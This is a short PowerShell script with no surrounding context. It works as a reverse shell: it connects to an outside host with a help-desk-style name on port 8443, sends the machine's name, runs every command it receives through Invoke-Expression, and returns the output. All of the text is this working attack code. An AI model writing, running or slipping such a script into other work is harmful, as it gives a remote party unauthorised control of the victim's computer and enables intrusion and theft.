$c = New-Object System.Net.Sockets.TCPClient('assist.winhelp-desk.com', 8443)
$s = $c.GetStream()
$w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
$r = New-Object IO.StreamReader($s)
$w.WriteLine("connected: $env:COMPUTERNAME")
while (($line = $r.ReadLine()) -ne $null) {
  $out = try { Invoke-Expression $line 2>&1 | Out-String } catch { $_ | Out-String }
  $w.Write($out + 'PS> ')
}
